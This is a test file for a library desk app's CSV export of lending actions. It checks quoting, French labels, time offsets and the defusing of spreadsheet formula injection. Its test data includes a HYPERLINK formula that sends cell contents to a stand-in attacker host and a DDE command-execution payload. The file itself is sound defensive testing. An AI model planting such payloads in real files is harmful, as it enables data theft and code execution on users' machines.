// The exported CSV, read back by an RFC 4180 parser written here (not by the code under test):
// every cell comes back exactly as the desk meant it, after a byte order mark; every cell is
// quoted; nothing a spreadsheet would run as a formula is left to run; local times carry their
// offset; outcomes and libraries are words in the desk's language, not codes.
import { describe, expect, it } from 'vitest';
import { actionsCsv, CSV_COLUMNS, localTimeWithOffset, type CsvWords } from '../../../../electron/shared/action-log-csv.ts';
import type { ActionEntry } from '../../../../electron/shared/action-log.ts';

/** RFC 4180: quoted fields may hold commas, line breaks and doubled quotes. Throws on anything malformed. */
function parseCsv(text: string): { rows: string[][]; allQuoted: boolean } {
  const rows: string[][] = [];
  let row: string[] = [];
  let allQuoted = true;
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
        if (text[i] === '"') { i += 1; break; }
        cell += text[i];
        i += 1;
      }
    } else {
      allQuoted = false;
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ',') { i += 1; continue; }
    if (text.startsWith('\r\n', i)) { rows.push(row); row = []; i += 2; continue; }
    if (i < text.length) throw new Error(`unexpected character at ${i}: ${JSON.stringify(text[i])}`);
  }
  if (row.length > 0) rows.push(row);
  return { rows, allQuoted };
}

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rCarriage',
  'Quotes "inside", commas, and\nline breaks', "L'été des bibliothèques — « roman »", '', 'Plain title',
];

const entries: ActionEntry[] = HOSTILE_TITLES.map((title, i) => ({
  time: Date.UTC(2026, 2, 10, 14 + i, 5, 9), staff: i === 0 ? '=cmd|" /C calc"!A0' : 'Marguerite', osUser: '-desk', profile: 'City, "Main"',
  libraryId: 101, ...(i % 2 === 0 ? { libraryName: 'Succursale @ centre' } : {}), card: '••••0042', action: i % 2 ? 'return' : 'borrow',
  contentId: 300 + i, ...(title ? { title } : {}), outcome: i % 3 === 0 ? 'ok' : 'limit-reached', ...(i === 3 ? { confirmedByReread: true } : {}),
}));

const french: CsvWords = {
  columns: { time: 'Heure', staff: 'Personnel', osUser: 'Session Windows', profile: 'Connexion', library: 'Bibliothèque', card: 'Carte', action: 'Action', title: 'Titre', contentId: 'No de titre', outcome: 'Résultat' },
  action: (e) => (e.action === 'borrow' ? 'Emprunt' : 'Retour'),
  outcome: (e) => (e.outcome === 'ok' ? (e.confirmedByReread ? 'Fait (confirmé en relisant le compte)' : 'Fait') : 'Refusé : allocation épuisée'),
  library: (e) => e.libraryName ?? `Bibliothèque ${e.libraryId}`,
};

const defused = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

describe('the action log as CSV', () => {
  it('every cell comes back exactly when parsed, after a BOM, every cell quoted', () => {
    const csv = actionsCsv(entries, french, () => -300);
    expect(csv.startsWith('\ufeff"Heure","Personnel"')).toBe(true);
    const { rows, allQuoted } = parseCsv(csv.slice(1));
    expect(allQuoted).toBe(true);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => french.columns[c]));
    expect(rows).toHaveLength(entries.length + 1);
    rows.slice(1).forEach((row, i) => {
      const e = entries[i]!;
      expect(row).toEqual([
        localTimeWithOffset(e.time, -300), defused(e.staff), defused(e.osUser ?? ''), e.profile, defused(french.library(e)), e.card,
        french.action(e), defused(e.title ?? ''), String(e.contentId), french.outcome(e),
      ]);
    });
  });

  it('leaves no cell a spreadsheet would run as a formula', () => {
    const { rows } = parseCsv(actionsCsv(entries, french, () => 0).slice(1));
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]![7]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(rows[1]![1]).toBe(`'=cmd|" /C calc"!A0`);
    expect(rows[5]![7]).toBe("'\tTabbed");
  });

  it("gives local times with the desk's offset, and words instead of codes", () => {
    expect(localTimeWithOffset(Date.UTC(2026, 2, 10, 14, 5, 9), -300)).toBe('2026-03-10T09:05:09-05:00');
    expect(localTimeWithOffset(Date.UTC(2026, 2, 10, 14, 5, 9), 570)).toBe('2026-03-10T23:35:09+09:30');
    expect(localTimeWithOffset(Date.UTC(2026, 0, 1, 2, 0, 0), -210)).toBe('2025-12-31T22:30:00-03:30');
    const { rows } = parseCsv(actionsCsv(entries, french, () => -240).slice(1));
    expect(rows[2]).toContain('Refusé : allocation épuisée');
    expect(rows[4]![9]).toBe('Fait (confirmé en relisant le compte)');
    expect(rows[2]![4]).toBe('Bibliothèque 101');
    expect(rows.flat()).not.toContain('limit-reached');
  });
});
